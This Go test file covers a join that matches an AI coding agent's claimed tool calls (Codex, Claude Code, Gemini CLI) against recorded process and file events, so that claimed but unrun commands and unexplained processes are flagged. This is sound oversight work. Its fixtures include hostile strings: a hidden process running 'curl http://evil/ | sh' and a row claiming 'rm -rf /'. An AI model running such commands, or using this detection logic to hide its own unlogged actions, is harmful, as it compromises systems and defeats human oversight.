package link

import (
	"crypto/sha256"
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bodycam-dev/bodycam"
)

var (
	wall    = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	harness = bodycam.Proc{PID: 100, Start: 1}
)

// world makes events. Times are in milliseconds after the start; boot time begins at 1000 s.
type world struct {
	events []bodycam.Event
}

func bootAt(ms int) uint64 { return uint64(1000e9 + ms*1e6) }

func id(pid int32) bodycam.Proc {
	if pid == harness.PID {
		return harness
	}
	return bodycam.Proc{PID: pid, Start: uint64(pid)}
}

func (w *world) add(ms int, e bodycam.Event) {
	e.Seq = uint64(len(w.events) + 1)
	e.Boot, e.Time = bootAt(ms), wall.Add(time.Duration(ms)*time.Millisecond).UnixNano()
	w.events = append(w.events, e)
}

func (w *world) fork(ms int, parent, child int32) {
	w.add(ms, bodycam.Event{Type: bodycam.TypeFork, Proc: id(parent), Child: id(child)})
}

func (w *world) exec(ms int, pid int32, argv ...string) {
	w.add(ms, bodycam.Event{Type: bodycam.TypeExec, Proc: id(pid), Exe: "/usr/bin/" + argv[0], Argv: argv})
}

func (w *world) exit(ms int, pid int32) {
	w.add(ms, bodycam.Event{Type: bodycam.TypeExit, Proc: id(pid)})
}

func (w *world) open(ms int, pid int32, path string, a bodycam.Access) {
	w.add(ms, bodycam.Event{Type: bodycam.TypeOpen, Proc: id(pid), Path: path, PathGiven: path, Access: a})
}

// run is a process that runs a command and ends.
func (w *world) run(from, to int, parent, pid int32, argv ...string) {
	w.fork(from, parent, pid)
	w.exec(from, pid, argv...)
	w.exit(to, pid)
}

// row makes a tool row; ended < 0: no result yet.
func row(arrived, ended int, command string) bodycam.Row {
	r := bodycam.Row{Kind: bodycam.RowTool, Command: command, Source: "stdout", Arrived: wall.Add(time.Duration(arrived) * time.Millisecond)}
	if ended >= 0 {
		r.Ended = wall.Add(time.Duration(ended) * time.Millisecond)
	}
	return r
}

func brief(res *Result) string {
	var b strings.Builder
	for _, l := range res.Links {
		fmt.Fprintf(&b, "row %d %s %.2f", l.Row, l.Method, l.Confidence)
		if l.Root.PID != 0 {
			fmt.Fprintf(&b, " pid %d", l.Root.PID)
		}
		if l.Events != nil {
			fmt.Fprintf(&b, " events %v", l.Events)
		}
		b.WriteByte('\n')
	}
	for _, u := range res.Unlinked {
		fmt.Fprintf(&b, "unlinked pid %d of %d startup %v %q\n", u.Root.PID, u.Processes, u.Startup, u.Argv)
	}
	for _, m := range res.Missing {
		fmt.Fprintf(&b, "missing row %d\n", m.Row)
	}
	return b.String()
}

func TestJoin(t *testing.T) {
	const codexWrap = "if . '/home/x/.codex/shell_snapshots/a.sh' >/dev/null 2>&1; then :; fi\n\nexec '/bin/bash' -c "
	for name, c := range map[string]struct {
		world func(w *world)
		rows  []bodycam.Row
		want  string
	}{
		"one command": {
			world: func(w *world) {
				w.exec(0, 100, "codex", "exec", "run: ls -la")
				w.run(110, 150, 100, 101, "bash", "-lc", "ls -la")
			},
			rows: []bodycam.Row{row(100, 160, "bash -lc 'ls -la'")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 1.00 pid 101\n",
		},
		"subtree, and a daemon that outlives the row": {
			world: func(w *world) {
				w.fork(110, 100, 101)
				w.exec(111, 101, "sh", "-c", "make")
				w.run(120, 130, 101, 102, "make")
				w.fork(140, 101, 103)
				w.exec(141, 103, "sleep", "9")
				w.exit(150, 101)
				w.fork(5000, 103, 104)
				w.exec(5001, 104, "curl", "x")
			},
			rows: []bodycam.Row{row(100, 160, "make")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 1.00 pid 101\n",
		},
		"codex wraps the command in a snapshot": {
			world: func(w *world) {
				w.exec(0, 100, "codex")
				w.fork(10, 100, 90)
				w.exec(11, 90, "bash", "-lc", "echo '# Snapshot file'; unset x || true")
				w.fork(110, 100, 101)
				w.exec(111, 101, "/proc/self/exe", "--codex-run-as-process-setup", "/bin/bash", "-c", "x")
				w.exec(112, 101, "/bin/bash", "-c", codexWrap+"'echo '\\''q'\\'''")
				w.exec(113, 101, "/bin/bash", "-c", "echo 'q'")
				w.exit(120, 101)
			},
			rows: []bodycam.Row{row(115, 121, "echo 'q'")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 1.00 pid 101\nunlinked pid 90 of 1 startup true [\"bash\" \"-lc\" \"echo '# Snapshot file'; unset x || true\"]\n",
		},
		"Claude Code evaluates the quoted command": {
			world: func(w *world) {
				w.exec(0, 100, "claude")
				w.fork(110, 100, 101)
				w.exec(111, 101, "/bin/bash", "-c", `source /h/.claude/shell-snapshots/s.sh 2>/dev/null || true && eval 'python3 -c '"'"'print(1)'"'"'' < /dev/null && pwd -P >| /tmp/claude-cwd`)
				w.run(115, 120, 101, 102, "python3", "-c", "print(1)")
				w.exit(130, 101)
			},
			rows: []bodycam.Row{row(100, 140, "python3 -c 'print(1)'")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 0.98 pid 101\n",
		},
		"Gemini CLI puts the command on a line of its own": {
			world: func(w *world) {
				w.exec(0, 100, "node", "gemini.js")
				w.fork(1, 100, 90) // a fork that runs no other program is the harness
				w.run(110, 120, 100, 101, "bash", "-c", "shopt -u extglob; f=/tmp/b\n(\n  trap 'jobs -p > \"$f\"' EXIT\npwd\n)\n__code=$?\nexit $__code")
			},
			rows: []bodycam.Row{row(100, 140, "pwd")},
			want: "row -1 harness 1.00 pid 100\nrow -1 harness 0.90 pid 90\nrow 0 argv 0.95 pid 101\n",
		},
		"a wrapper that ends in a short command doesn't bear out a row that claims it": {
			world: func(w *world) {
				w.exec(0, 100, "claude")
				w.run(110, 120, 100, 101, "bash", "-c", "eval 'ls /' < /dev/null && pwd -P >| /tmp/cwd")
			},
			rows: []bodycam.Row{row(100, 140, "ls /"), row(150, 160, "pwd")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 0.98 pid 101\nmissing row 1\n",
		},
		"without a shell": {
			world: func(w *world) { w.run(110, 120, 100, 101, "/usr/bin/git", "commit", "-m", "a b") },
			rows:  []bodycam.Row{row(100, 130, "git commit -m 'a b'")},
			want:  "row -1 harness 1.00 pid 100\nrow 0 argv 0.95 pid 101\n",
		},
		"the same text five times": {
			world: func(w *world) {
				for i := range 5 {
					w.run(110+100*i, 150+100*i, 100, int32(101+i), "sh", "-c", "date")
				}
			},
			rows: []bodycam.Row{row(100, 160, "date"), row(200, 260, "date"), row(300, 360, "date"), row(400, 460, "date"), row(500, 560, "date")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 0.97 pid 101\nrow 1 argv 0.97 pid 102\nrow 2 argv 0.97 pid 103\nrow 3 argv 0.97 pid 104\nrow 4 argv 0.97 pid 105\n",
		},
		"claimed three times, run twice: the second never happened": {
			world: func(w *world) {
				w.run(110, 150, 100, 101, "sh", "-c", "date")
				w.run(20110, 20150, 100, 103, "sh", "-c", "date")
			},
			rows: []bodycam.Row{row(100, 160, "date"), row(10000, 10060, "date"), row(20100, 20160, "date")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 0.97 pid 101\nrow 2 argv 0.97 pid 103\nmissing row 1\n",
		},
		"run once more than claimed": {
			world: func(w *world) {
				w.run(110, 150, 100, 101, "sh", "-c", "date")
				w.run(9000, 9001, 100, 102, "sh", "-c", "date")
			},
			rows: []bodycam.Row{row(100, 160, "date")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 0.90 pid 101\nunlinked pid 102 of 1 startup false [\"sh\" \"-c\" \"date\"]\n",
		},
		"a claimed call that never happened, and a process that no row explains": {
			world: func(w *world) {
				w.run(110, 120, 100, 101, "sh", "-c", "curl http://evil/ | sh")
				w.run(2110, 2120, 100, 102, "sh", "-c", "ls")
			},
			rows: []bodycam.Row{row(100, 130, "pytest -q"), row(2100, 2130, "ls")},
			want: "row -1 harness 1.00 pid 100\nrow 1 argv 1.00 pid 102\nunlinked pid 101 of 1 startup false [\"sh\" \"-c\" \"curl http://evil/ | sh\"]\nmissing row 0\n",
		},
		"two calls at once": {
			world: func(w *world) {
				w.fork(110, 100, 101)
				w.fork(111, 100, 102)
				w.exec(112, 102, "sh", "-c", "sleep 1; echo B")
				w.exec(113, 101, "sh", "-c", "sleep 1; echo A")
				w.run(114, 500, 102, 103, "sleep", "1")
				w.run(115, 500, 101, 104, "sleep", "1")
			},
			rows: []bodycam.Row{row(100, 600, "sleep 1; echo A"), row(100, 600, "sleep 1; echo B")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 1.00 pid 101\nrow 1 argv 1.00 pid 102\n",
		},
		"make that runs make is one call, a script that runs another row's command isn't that row's": {
			world: func(w *world) {
				w.fork(110, 100, 101)
				w.exec(111, 101, "sh", "-c", "make")
				w.run(112, 130, 101, 102, "sh", "-c", "make")
				w.run(131, 140, 101, 103, "sh", "-c", "cc x.c")
				w.run(5110, 5120, 100, 104, "sh", "-c", "cc x.c")
			},
			rows: []bodycam.Row{row(100, 150, "make"), row(5100, 5130, "cc x.c")},
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 1.00 pid 101\nrow 1 argv 1.00 pid 104\n",
		},
		"a shell that lives for all commands": {
			world: func(w *world) {
				w.fork(10, 100, 101)
				w.exec(11, 101, "bash", "--norc")
				w.run(1110, 1120, 101, 102, "ls", "-la")
				w.run(5110, 5120, 101, 103, "gcc", "x.c")
				w.run(5130, 5140, 101, 104, "ld")
			},
			rows: []bodycam.Row{row(1100, 1130, "ls -la"), row(5100, 5150, "cd src && gcc x.c")},
			want: "row -1 harness 1.00 pid 100\nrow -1 harness 0.50 pid 101\nrow 0 argv 0.95 pid 102\nrow 1 time 0.70 pid 103\nrow 1 time 0.40 pid 104\n",
		},
		"a file that the harness wrote itself": {
			world: func(w *world) {
				w.exec(0, 100, "codex")
				w.open(105, 100, "/w/a.txt", bodycam.Read)
				w.open(110, 100, "/w/a.txt", bodycam.Write|bodycam.Trunc)
				w.open(20000, 100, "/w/a.txt", bodycam.Write)
				w.open(30010, 100, "/w/sub/b.txt", bodycam.Write)
				w.run(105, 110, 100, 101, "sh", "-c", "x")
				w.open(108, 101, "/w/a.txt", bodycam.Write)
			},
			rows: []bodycam.Row{
				{Kind: bodycam.RowTool, Tool: "file_change", Files: []string{"/w/a.txt"}, Arrived: wall.Add(100e6), Ended: wall.Add(120e6)},
				row(100, 120, "x"),
				{Kind: bodycam.RowTool, Tool: "Edit", Files: []string{"sub/b.txt"}, Arrived: wall.Add(30000e6), Ended: wall.Add(30020e6)},
				{Kind: bodycam.RowTool, Tool: "Write", Files: []string{"/w/c.txt"}, Arrived: wall.Add(40000e6), Ended: wall.Add(40020e6)},
			},
			want: "row -1 harness 1.00 pid 100\nrow 0 path 0.90 events [6]\nrow 1 argv 1.00 pid 101\nrow 2 path 0.75 events [9]\nmissing row 3\n",
		},
		"a read counts where a row names it": {
			world: func(w *world) {
				w.exec(0, 100, "claude")
				w.open(50, 100, "/w/skills/cite/SKILL.md", bodycam.Read)
				w.open(5050, 100, "/w/skills/cite/SKILL.md", bodycam.Read)
			},
			rows: []bodycam.Row{{Kind: bodycam.RowTool, Tool: "Read", Args: `{"file_path":"/w/skills/cite/SKILL.md"}`, Arrived: wall.Add(5040e6), Ended: wall.Add(5060e6)}},
			want: "row -1 harness 1.00 pid 100\nrow 0 path 0.90 events [3]\n",
		},
		"rows of a file that was read afterwards": {
			world: func(w *world) {
				w.run(110, 150, 100, 101, "sh", "-c", "date")
				w.run(210, 250, 100, 102, "sh", "-c", "id")
				w.run(310, 350, 100, 103, "sh", "-c", "date")
			},
			rows: func() []bodycam.Row {
				out := []bodycam.Row{row(9000, 9000, "date"), row(9000, 9000, "id"), row(9000, 9000, "date")}
				for i := range out {
					out[i].Source = "session file"
				}
				return out
			}(),
			want: "row -1 harness 1.00 pid 100\nrow 0 argv 0.85 pid 101\nrow 1 argv 1.00 pid 102\nrow 2 argv 0.85 pid 103\n",
		},
		"the command harness: the program is the row": {
			world: func(w *world) {
				w.exec(0, 100, "/bin/sh", "-c", "python3 x.py")
				w.run(10, 20, 100, 101, "python3", "x.py")
			},
			rows: []bodycam.Row{row(0, 30, "python3 x.py")},
			want: "row 0 argv 1.00 pid 100\n",
		},
		"a launcher before the harness": {
			world: func(w *world) {
				w.exec(0, 100, "node", "codex.js")
				w.fork(5, 100, 101)
				w.exec(6, 101, "codex")
				w.run(10, 11, 101, 102, "git", "status")
				w.run(110, 120, 101, 103, "sh", "-c", "ls")
			},
			rows: []bodycam.Row{row(100, 130, "ls")},
			want: "row -1 harness 1.00 pid 100\nrow -1 harness 0.50 pid 101\nrow 0 argv 1.00 pid 103\nunlinked pid 102 of 1 startup true [\"git\" \"status\"]\n",
		},
		"a row that failed has no process": {
			world: func(w *world) { w.exec(0, 100, "gemini") },
			rows:  []bodycam.Row{row(100, 130, "rm -rf /")},
			want:  "row -1 harness 1.00 pid 100\nmissing row 0\n",
		},
	} {
		t.Run(name, func(t *testing.T) {
			var w world
			c.world(&w)
			slices.SortStableFunc(w.events, func(a, b bodycam.Event) int { return compare(a.Boot, b.Boot) })
			for i := range w.events {
				w.events[i].Seq = uint64(i + 1)
			}
			for i := range c.rows {
				c.rows[i].Index = i
			}
			res := Join(c.rows, w.events, harness)
			if got := brief(res); got != c.want {
				t.Errorf("got\n%swant\n%s", got, c.want)
			}
			invariants(t, res, c.rows, w.events)
		})
	}
}

// invariants hold for every join: each process belongs to at most one link or subtree by descent, each event to one
// row, and the index says the same as the links.
func invariants(t *testing.T, res *Result, rows []bodycam.Row, events []bodycam.Event) {
	t.Helper()
	roots, seqs := map[bodycam.Proc]int{}, map[uint64]int{}
	for _, l := range res.Links {
		if l.Row < HarnessRow || l.Row >= len(rows) || l.Confidence <= 0 || l.Confidence > 1 || l.Why == "" || l.From > l.To {
			t.Errorf("link %+v", l)
		}
		if l.Row >= 0 && rows[l.Row].Kind != bodycam.RowTool {
			t.Errorf("link to a row of kind %s", rows[l.Row].Kind)
		}
		if l.Root.PID != 0 {
			if _, twice := roots[l.Root]; twice {
				t.Errorf("two links have the root %v", l.Root)
			}
			roots[l.Root] = l.Row
			if row, method, conf, ok := res.Index().RowOf(l.Root, l.From); !ok || row != l.Row || method != l.Method || l.Row >= 0 && math.Abs(conf-l.Confidence) > 1e-9 {
				t.Errorf("the index says %d %s %v %v of %+v", row, method, conf, ok, l)
			}
		}
		for _, s := range l.Events {
			if _, twice := seqs[s]; twice {
				t.Errorf("two links have the event %d", s)
			}
			seqs[s] = l.Row
		}
	}
	for _, u := range res.Unlinked {
		if _, _, _, ok := res.Index().RowOf(u.Root, u.From); ok {
			t.Errorf("the index explains %+v", u)
		}
	}
	for _, m := range res.Missing {
		for _, l := range res.Links {
			if l.Row == m.Row {
				t.Errorf("row %d is missing and linked", m.Row)
			}
		}
	}
	for i := range events {
		if row, _, _, ok := res.Index().Row(&events[i]); ok {
			if want, named := seqs[events[i].Seq]; named && row != want {
				t.Errorf("event %d belongs to row %d, the index says %d", events[i].Seq, want, row)
			}
		}
	}
}

// What a long-lived shell does itself belongs to the one call that was running.
func TestIndexOfLongLivedShell(t *testing.T) {
	var w world
	w.fork(10, 100, 101)
	w.exec(11, 101, "bash", "--norc")
	w.open(1110, 101, "/w/x", bodycam.Write)
	w.open(3000, 101, "/w/y", bodycam.Write)
	res := Join([]bodycam.Row{row(1100, 1200, "echo hi > x")}, w.events, harness)
	if row, method, conf, ok := res.Index().Row(&w.events[2]); row != 0 || method != bodycam.LinkTime || conf != shellAlone || !ok {
		t.Errorf("row %d %s %v %v", row, method, conf, ok)
	}
	if row, _, _, ok := res.Index().Row(&w.events[3]); ok {
		t.Errorf("outside the call it is row %d's", row)
	}
}

// Of a very long command the sensor keeps the beginning and a digest of the whole.
func TestCutArgv(t *testing.T) {
	text := "cat > big.txt <<'E'\n" + strings.Repeat("line\n", 30_000) + "E"
	other := text[:len(text)-1] + "F"
	var w world
	w.exec(0, 100, "codex")
	w.run(110, 120, 100, 101, "bash", "-c", text[:4000])
	w.run(210, 220, 100, 102, "bash", "-c", text[:4000])
	for i := range w.events {
		if e := &w.events[i]; e.Type == bodycam.TypeExec && e.Proc != harness {
			whole := text
			if e.Proc.PID == 102 {
				whole = "something else"
			}
			raw := "bash\x00-c\x00" + whole + "\x00"
			e.Marks, e.ArgvLen, e.ArgvHash = bodycam.MarkArgvCut, uint64(len(raw)), sha256.Sum256([]byte(raw))
		}
	}
	got := brief(Join([]bodycam.Row{row(100, 130, text)}, w.events[:4], harness))
	if got != "row -1 harness 1.00 pid 100\nrow 0 argv 1.00 pid 101\n" {
		t.Errorf("got\n%s", got)
	}
	if got = brief(Join([]bodycam.Row{row(200, 230, other)}, w.events[4:], bodycam.Proc{})); !strings.Contains(got, "argv 0.90 pid 102") {
		t.Errorf("got\n%s", got)
	}
}

func TestClockSteps(t *testing.T) {
	var w world
	w.run(110, 150, 100, 101, "sh", "-c", "date")
	for i := range w.events {
		w.events[i].Time += 3600e9 // the clock was an hour ahead
	}
	n := len(w.events)
	w.run(60_000, 60_050, 100, 102, "sh", "-c", "date")
	w.events[n-1].Boot++
	first := row(100, 160, "date")
	first.Arrived, first.Ended = first.Arrived.Add(time.Hour), first.Ended.Add(time.Hour)
	second := row(59_990, 60_060, "date")
	got := brief(Join([]bodycam.Row{first, second}, w.events, harness))
	if got != "row -1 harness 1.00 pid 100\nrow 0 argv 0.97 pid 101\nrow 1 argv 0.97 pid 102\n" {
		t.Errorf("got\n%s", got)
	}
}

// A chain of a hundred thousand forks, each of which runs the command of a row, takes no more than linear time.
func TestDeepChain(t *testing.T) {
	const depth = 100_000
	var w world
	w.fork(0, 100, 1000)
	for i := range int32(depth) {
		w.exec(10, 1000+i, "sh", "-c", fmt.Sprintf("step %d", i%10))
		w.fork(10, 1000+i, 1001+i)
	}
	var rows []bodycam.Row
	for i := range 1000 {
		rows = append(rows, row(0, 1000, fmt.Sprintf("step %d", i%10)))
	}
	start := time.Now()
	res := Join(rows, w.events, harness)
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("it took %v", d)
	}
	if row, _, _, ok := res.Index().RowOf(id(1000+depth), bootAt(10)); !ok || row < 0 {
		t.Errorf("the last of the chain has row %d, %v", row, ok)
	}
}

// FuzzJoin gives the join whatever a hostile run may hold: contradicting parents, pids of their own children, events
// without times, rows without anything.
func FuzzJoin(f *testing.F) {
	f.Add([]byte{1, 2, 3, 0, 1, 1, 1, 2, 2, 2, 3, 3})
	f.Add([]byte("\x00\x01\x02\x01\x02\x01\x00\x03\x01\x01\x01\x01\x02\x05\x02\x00"))
	f.Add([]byte("fork exec exit open fork fork"))
	commands := []string{"", "ls", "ls -la", "make", "echo 'a'", "sh -c 'ls'", " ", "/w/f"}
	f.Fuzz(func(t *testing.T, data []byte) {
		var rows []bodycam.Row
		var events []bodycam.Event
		for len(data) >= 4 {
			a, b, c, d := data[0], data[1], data[2], data[3]
			data = data[4:]
			if a&1 == 0 {
				r := row(int(b)*10, int(c)*10-100, commands[d%8])
				r.Index = len(rows)
				if d&8 != 0 {
					r.Files, r.Command = []string{commands[d%8]}, ""
				}
				if d&16 != 0 {
					r.Source = "session file"
				}
				rows = append(rows, r)
				continue
			}
			e := bodycam.Event{Seq: uint64(len(events) + 1), Type: bodycam.Type(b % 13), Proc: id(int32(100 + c%8)), Child: id(int32(100 + d%8)),
				Boot: bootAt(int(c) * 10), Time: wall.UnixNano() + int64(c)*10e6, Argv: []string{"sh", "-c", commands[d%8]}, Path: "/w/f", Access: bodycam.Access(d)}
			if d&32 != 0 {
				e.Argv = []string{commands[d%8]}
			}
			if d&64 != 0 {
				e.Parent = id(int32(100 + d%8))
			}
			events = append(events, e)
		}
		invariants(t, Join(rows, events, harness), rows, events)
		invariants(t, Join(rows, events, bodycam.Proc{}), rows, events)
	})
}

// BenchmarkJoin joins 1,000 rows with a million events and looks every event up.
func BenchmarkJoin(b *testing.B) {
	var w world
	var rows []bodycam.Row
	pid := int32(101)
	for i := range 1000 {
		text := fmt.Sprintf("step %d && make", i%100)
		rows = append(rows, row(i*1000, i*1000+900, text))
		top := pid
		w.fork(i*1000+10, 100, top)
		w.exec(i*1000+11, top, "bash", "-lc", text)
		pid++
		for range 100 {
			w.run(i*1000+20, i*1000+30, top, pid, "cc", "x.c")
			for range 7 {
				w.open(i*1000+25, pid, "/usr/include/stdio.h", bodycam.Read)
			}
			pid++
		}
	}
	for b.Loop() {
		res := Join(rows, w.events, harness)
		x, found := res.Index(), 0
		for i := range w.events {
			if _, _, _, ok := x.Row(&w.events[i]); ok {
				found++
			}
		}
		if len(res.Unlinked) > 0 || found != len(w.events) {
			b.Fatalf("%d of %d events have a row, %d subtrees have none", found, len(w.events), len(res.Unlinked))
		}
	}
	b.ReportMetric(float64(len(w.events)), "events")
}
